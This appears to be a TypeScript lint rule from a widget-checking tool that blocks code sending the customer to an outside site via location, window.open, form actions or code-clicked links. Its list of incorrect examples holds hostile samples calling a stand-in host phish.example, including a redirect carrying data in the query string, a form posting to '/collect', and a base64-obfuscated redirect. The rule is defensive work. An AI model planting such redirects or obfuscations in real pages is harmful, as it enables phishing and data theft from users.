import type { Node } from "estree";
import { defineRule, outsideHost } from "../../contracts/index.js";

const locations = /^(?:location|location\.(?:href|host|hostname|pathname|search|protocol))$/;
const calls: Readonly<Record<string, string>> = {
  "location.assign": "location.assign",
  "location.replace": "location.replace",
  open: "window.open",
  "navigation.navigate": "navigation.navigate",
};

export const external = defineRule({
  kind: "javascript",
  meta: {
    id: "navigation/external",
    category: "navigation",
    severity: "block",
    title: "Leads the customer to another site",
    description: "Sends the frame, the page or a new window to an outside address, by location, open, a form or a link that code clicks.",
    messages: {
      navigates: { text: "{via} leads to {host}.", fix: "Remove the navigation. A widget stays in its frame." },
      form: { text: "A form is sent to {host}.", fix: "Handle the form's submit event and use window.gro." },
    },
    examples: {
      incorrect: [
        'location.href = "https://phish.example/login"',
        'top.location = "https://phish.example"',
        'window["loc" + "ation"].replace("//phish.example")',
        'window.open("https://phish.example/?d=" + data)',
        'const a = document.createElement("a"); a.href = "https://phish.example"; a.click()',
        'form.action = "https://phish.example/collect"',
        'form.setAttribute("action", "https://phish.example")',
        'document.location.assign(atob("aHR0cHM6Ly9waGlzaC5leGFtcGxl"))',
      ],
      correct: [
        'location.hash = "#step-2"',
        'const a = document.createElement("a"); a.href = "https://docs.example"; root.append(a)',
        "router.push('/next')",
        'action.type = "https://schema.example/action"',
      ],
    },
  },
  create({ file, report }) {
    const linked = new Map<string, { host: string; at: Node & { start: number; end: number } }>();
    const clicked = new Set<string>();
    const host = (node: Node): string | undefined => outsideHost(file.prefixOf(node) ?? "");
    const nameOf = (node: Node): string | undefined => (node.type === "Identifier" ? node.name : file.pathOf(node));

    return {
      AssignmentExpression(node) {
        const path = file.pathOf(node.left as Node);
        const target = host(node.right);
        if (target === undefined) return;
        const left = node.left;
        const property =
          left.type === "MemberExpression" && !left.computed && left.property.type === "Identifier" ? left.property.name : undefined;
        if (path !== undefined && locations.test(path)) report({ messageId: "navigates", at: node, data: { via: path, host: target } });
        else if (property === "action" || property === "formAction") report({ messageId: "form", at: node, data: { host: target } });
        else if (property === "href" && left.type === "MemberExpression") {
          const name = nameOf(left.object as Node);
          if (name !== undefined) linked.set(name, { host: target, at: node });
        }
      },
      CallExpression(node) {
        const call = file.callOf(node);
        const first = call?.args[0];
        const via = call && Object.hasOwn(calls, call.path) ? calls[call.path] : undefined;
        if (via !== undefined && first) {
          const target = host(first);
          if (target !== undefined) report({ messageId: "navigates", at: node, data: { via, host: target } });
        }
        const callee = node.callee;
        if (callee.type !== "MemberExpression" || callee.property.type !== "Identifier") return;
        const [name, value] = node.arguments as Node[];
        if (callee.property.name === "setAttribute" && name && value) {
          const attribute = String(file.valueOf(name)).toLowerCase();
          const target = host(value);
          if (target !== undefined && (attribute === "action" || attribute === "formaction"))
            report({ messageId: "form", at: node, data: { host: target } });
          const owner = nameOf(callee.object as Node);
          if (target !== undefined && attribute === "href" && owner !== undefined) linked.set(owner, { host: target, at: node });
        }
        if (callee.property.name === "click" || callee.property.name === "dispatchEvent") {
          const owner = nameOf(callee.object as Node);
          if (owner !== undefined) clicked.add(owner);
        }
      },
      end() {
        for (const name of clicked) {
          const link = linked.get(name);
          if (link) report({ messageId: "navigates", at: link.at, data: { via: "a link that code clicks", host: link.host } });
        }
      },
    };
  },
});
